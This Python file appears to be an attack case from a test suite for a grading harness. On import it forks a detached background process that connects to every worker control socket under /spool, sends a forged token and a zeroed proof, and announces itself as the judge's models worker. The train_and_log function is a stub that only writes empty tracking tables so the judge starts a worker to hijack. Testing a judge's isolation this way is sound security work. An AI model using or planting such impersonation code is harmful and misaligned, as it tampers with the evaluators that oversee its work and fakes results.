"""Leaves a process that connects to every worker socket it can see, to answer in the models worker's place.

victim: next
proof: ATTACK impersonates-the-models-worker: tried
"""

import glob
import os
import socket
import sqlite3
import time

import tpdl.judge.protocol
import tpdl.judge.wire

if os.fork() == 0:
    os.setsid()
    tried = connected = 0
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        for path in glob.glob("/spool/*/control/sock"):
            tried += 1
            try:
                with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as channel:
                    channel.connect(path)
                    connected += 1
                    tpdl.judge.wire.send(channel, {"token": path.split("/")[2], "proof": "0" * 64})
                    tpdl.judge.wire.send(channel, tpdl.judge.protocol.plain(tpdl.judge.protocol.Ready()))
            except OSError:
                pass
        print(f"ATTACK impersonates-the-models-worker: tried {tried}, connected {connected}", flush=True)
        time.sleep(0.05)
    os._exit(0)


def train_and_log(name, config, data, epochs, batch_size=128, seed=0,
                  tracking_uri="sqlite:///mlflow.db", experiment="x"):  # fmt: skip
    """Writes an empty store, so that the judge starts a models worker for the daemon to meet."""
    with sqlite3.connect(tracking_uri.removeprefix("sqlite:///")) as db:
        for table in ("experiments (experiment_id, name)", "params (key, value, run_uuid)",
                      "metrics (key, value, timestamp, run_uuid, step)",
                      "runs (run_uuid, name, status, start_time, end_time, experiment_id, lifecycle_stage)"):  # fmt: skip
            db.execute(f"CREATE TABLE {table}")
    time.sleep(1)
    return {}
